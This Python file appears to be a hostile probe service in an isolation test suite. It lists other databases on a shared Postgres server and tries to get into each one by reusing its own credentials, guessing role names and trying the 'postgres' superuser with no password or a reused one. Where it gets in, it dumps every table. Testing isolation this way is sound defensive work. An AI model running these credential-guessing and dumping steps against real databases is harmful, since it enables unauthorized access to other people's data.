"""Hostile: read another run's database, with its own credentials or by guessing theirs."""
from urllib.parse import urlsplit, urlunsplit

import psycopg

from services.common.config import env
from services.common.http import json_app, serve

own = urlsplit(env("DATABASE_URL"))
with psycopg.connect(env("DATABASE_URL"), connect_timeout=5) as conn:
    others = [d for (d,) in conn.execute("SELECT datname FROM pg_database WHERE NOT datistemplate")
              if d != own.path.lstrip("/")]
print(f"databases seen: {others}", flush=True)
for db in others:
    attempts = {"own credentials": own._replace(path=f"/{db}"),
                "their role, own password": own._replace(netloc=f"{db}:{own.password}@{own.hostname}:{own.port}",
                                                         path=f"/{db}"),
                "superuser, no password": own._replace(netloc=f"postgres@{own.hostname}:{own.port}", path=f"/{db}"),
                "superuser, own password": own._replace(netloc=f"postgres:{own.password}@{own.hostname}:{own.port}",
                                                        path=f"/{db}")}
    for how, url in attempts.items():
        try:
            with psycopg.connect(urlunsplit(url), connect_timeout=5) as conn:
                rows = conn.execute("SELECT table_name FROM information_schema.tables "
                                    "WHERE table_schema = 'public'").fetchall()
                for (table,) in rows:
                    print(f"ATTACK SUCCEEDED: {db} via {how}: {table}: "
                          f"{conn.execute(f'SELECT * FROM {table}').fetchall()}", flush=True)
                print(f"ATTACK SUCCEEDED: connected to {db} via {how}", flush=True)
        except psycopg.Error as e:
            print(f"ATTACK FAILED: {db} via {how}: {str(e).strip()[:200]}", flush=True)
serve(json_app("other-namespace-db"))
